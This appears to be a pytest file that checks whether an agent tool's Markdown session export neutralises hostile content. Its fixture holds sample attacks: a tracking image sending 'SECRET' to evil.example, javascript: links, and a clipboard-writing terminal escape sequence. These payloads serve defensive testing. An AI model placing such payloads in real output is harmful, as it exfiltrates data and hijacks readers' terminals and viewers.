"""`loop export` of a hostile session as Markdown: no terminal control reaches a `cat` of the file, and
no link or image reaches a viewer (a `javascript:` link, a tracking image carrying what the model wrote)."""

from __future__ import annotations

import json
from pathlib import Path

from loopagent.details import Details
from loopagent.messages import AssistantMessage, SystemMessage, ToolCall, ToolResult, UserMessage, to_record
from loopagent.session import header

LINKS = ("task ![x](http://evil.example/?q=SECRET) [click](javascript:alert(1))\n[r]: javascript:alert(2)\n"
         " [i]: http://evil.example/i.png\nsee [r] and ![i][i] <http://evil.example/auto>")
CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e")


def hostile(path: Path) -> Path:
    head = header(path.stem, Path("/tmp/ws"), "default", "http://127.0.0.1:9/v1", "t")
    shell = ToolCall("c1", "shell", '{"command": "echo \x9b31m \u202e x"}')
    broken = ToolCall("c2", "read_file", "not json \x1b]52;c;ZXZpbA==\x07")
    messages = [SystemMessage("s"), UserMessage(LINKS),
                AssistantMessage(text=LINKS, tool_calls=(shell, broken), stop_reason="tool_calls"),
                ToolResult.ok("out", details=Details("ok\x1b]0;title\x07")).answering(shell),
                ToolResult.error("bad", details=Details("error")).answering(broken), AssistantMessage(text="done")]
    lines = [head] + [{"type": "message", "index": i, **to_record(m)} for i, m in enumerate(messages)]
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    return path


def test_markdown_export_carries_no_control_and_no_link(run_loop, tmp_path: Path) -> None:
    from markdown_it import MarkdownIt

    proc = run_loop("export", str(hostile(tmp_path / "handed.jsonl")), "--format", "md", cwd=tmp_path, timeout=30)
    assert proc.returncode == 0, proc.stderr
    md = proc.stdout
    assert not [c for c in CONTROLS if c in md], md
    assert "\\x1b]52;c;ZXZpbA==\\x07" in md and "\\x9b31m" in md  # shown as visible escapes
    assert "evil.example/?q=SECRET" in md and "javascript:alert(1)" in md  # the text is kept, only inert

    def kinds(tokens) -> list:
        return [t for t in tokens] + [k for t in tokens if t.children for k in kinds(t.children)]

    found = kinds(MarkdownIt("commonmark").parse(md))
    assert [t for t in found if t.type in ("link_open", "image", "html_inline")] == []
    # the only HTML is the export's own folding of the system prompt and thinking
    assert {t.content.strip() for t in found if t.type == "html_block"} <= {
        "<details><summary>system prompt</summary>", "<details><summary>thinking</summary>", "</details>"}
